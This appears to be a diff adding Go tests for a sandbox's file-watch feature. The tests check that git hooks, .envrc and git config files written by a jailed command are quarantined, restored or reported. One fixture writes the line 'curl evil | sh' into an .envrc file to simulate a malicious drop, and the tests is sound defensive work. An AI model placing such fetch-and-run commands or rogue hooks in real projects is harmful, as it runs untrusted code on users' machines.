@@ -1,0 +1,178 @@
+//go:build linux
+
+package sweep_test
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/landjail/landjail/internal/sweep"
+	"github.com/landjail/landjail/jail"
+)
+
+// syncBuffer is an io.Writer the watch goroutine and the test share.
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+// gone waits up to 5 s for root/rel to disappear.
+func gone(root, rel string) bool {
+	for range 500 {
+		if _, err := os.Lstat(filepath.Join(root, rel)); os.IsNotExist(err) {
+			return true
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	return false
+}
+
+// watched takes a snapshot of tree's workspace and starts a watch.
+func watched(t *testing.T, abort func(string)) (string, *sweep.Snapshot, *sweep.Live, *syncBuffer) {
+	root := tree(t)
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "n/.git/modules"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "n/.git/config"), []byte("[core]\n"), 0o644))
+	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
+	require.NoError(t, err)
+	t.Cleanup(func() { ws.Close() })
+	snap, err := sweep.Take(ws, 0)
+	require.NoError(t, err)
+	t.Cleanup(func() { snap.Close() })
+	var out syncBuffer
+	live, err := snap.Watch(&out, abort)
+	require.NoError(t, err)
+	t.Cleanup(live.Stop)
+	return root, snap, live, &out
+}
+
+// TestWatchWhileRunning (round 5, N7): what the command creates among
+// the protected names is renamed away while it runs, and reported by
+// the Sweep after it even when the command removed the quarantined copy.
+// Control: the same files written with no watch are still there until
+// Sweep (TestSweep's attack).
+func TestWatchWhileRunning(t *testing.T) {
+	root, snap, live, out := watched(t, nil)
+	w := func(n, c string) {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, n)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), 0o644))
+	}
+	w("lefthook-local.yml", "pre-commit:\n")
+	assert.True(t, gone(root, "lefthook-local.yml"), "a new root name renamed away while the command runs")
+	// A directory made during the run is watched from then on.
+	w("made/during/run/.envrc", "curl evil | sh\n")
+	assert.True(t, gone(root, "made/during/run/.envrc"), "in a directory made during the run")
+	// A new hook in the root repository's hooks directory.
+	w(".git/hooks/post-merge", "x")
+	assert.True(t, gone(root, ".git/hooks/post-merge"))
+	// An existing nested configuration written in place and kept open:
+	// its content comes back.
+	f, err := os.OpenFile(filepath.Join(root, "n/.git/config"), os.O_WRONLY|os.O_APPEND, 0)
+	require.NoError(t, err)
+	_, err = f.WriteString(evilConfig)
+	require.NoError(t, err)
+	ok := false
+	for range 500 {
+		if b, _ := os.ReadFile(filepath.Join(root, "n/.git/config")); string(b) == "[core]\n" {
+			ok = true
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	f.Close()
+	assert.True(t, ok, "n/.git/config restored while the writer holds it open")
+	// A directory moved into a repository, whose files become protected
+	// by their new path (.git/modules/**/config).
+	w("tmp/m/config", evilConfig)
+	require.NoError(t, os.Rename(filepath.Join(root, "tmp/m"), filepath.Join(root, "n/.git/modules/m")))
+	assert.True(t, gone(root, "n/.git/modules/m/config"), "moved in")
+
+	// The command removes one quarantined copy: still reported.
+	live.Stop()
+	q, err := snap.Sweep()
+	require.NoError(t, err)
+	got := map[string]sweep.Quarantined{}
+	for _, e := range q {
+		got[e.Path] = e
+	}
+	for _, p := range []string{"lefthook-local.yml", "made/during/run/.envrc", ".git/hooks/post-merge", "n/.git/config", "n/.git/modules/m/config"} {
+		if assert.Contains(t, got, p) {
+			assert.True(t, got[p].Live, p)
+			assert.Contains(t, out.String(), p, "written when it happened")
+		}
+	}
+	assert.Equal(t, "changed", got["n/.git/config"].Reason)
+	assert.True(t, got["n/.git/config"].Restored)
+	// A second Sweep does not report them again.
+	q, err = snap.Sweep()
+	require.NoError(t, err)
+	assert.Empty(t, q)
+}
+
+// TestWatchDefersNewRepositories: inside a repository directory the
+// command creates (git init sub, cargo new), nothing is renamed while
+// it runs (git would fail half-way); the sweep after the command takes
+// it. The control is the same file in an existing repository, renamed
+// at once.
+func TestWatchDefersNewRepositories(t *testing.T) {
+	root, snap, live, _ := watched(t, nil)
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "sub/.git/hooks"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "sub/.git/config"), []byte(evilConfig), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "n/.git/hooks-control"), nil, 0o644))
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "n/.git/hooks"), 0o755)) // control: an existing repository
+	assert.True(t, gone(root, "n/.git/hooks"), "control: a new hooks directory in an existing repository")
+	time.Sleep(200 * time.Millisecond)
+	_, err := os.Lstat(filepath.Join(root, "sub/.git/config"))
+	assert.NoError(t, err, "left for the sweep after the command")
+	live.Stop()
+	q, err := snap.Sweep()
+	require.NoError(t, err)
+	paths := map[string]bool{}
+	for _, e := range q {
+		paths[e.Path] = true
+	}
+	assert.True(t, paths["sub/.git/config"], "swept after the command")
+	assert.True(t, paths["sub/.git/hooks"])
+}
+
+// TestWatchAborts: a command that keeps re-creating a protected name is
+// stopped after MaxLive (the abort function is called once).
+func TestWatchAborts(t *testing.T) {
+	var calls atomic.Int32
+	aborted := make(chan struct{}, 4)
+	root, _, _, out := watched(t, func(string) {
+		calls.Add(1)
+		aborted <- struct{}{}
+	})
+	for i := 0; i < 4*sweep.MaxLive; i++ {
+		os.WriteFile(filepath.Join(root, ".envrc.local"), []byte("x"), 0o644)
+		gone(root, ".envrc.local")
+		select {
+		case <-aborted:
+			i = 4 * sweep.MaxLive
+		default:
+		}
+	}
+	time.Sleep(100 * time.Millisecond)
+	assert.EqualValues(t, 1, calls.Load(), "abort called once")
+	assert.Contains(t, out.String(), "stopping the command")
+}
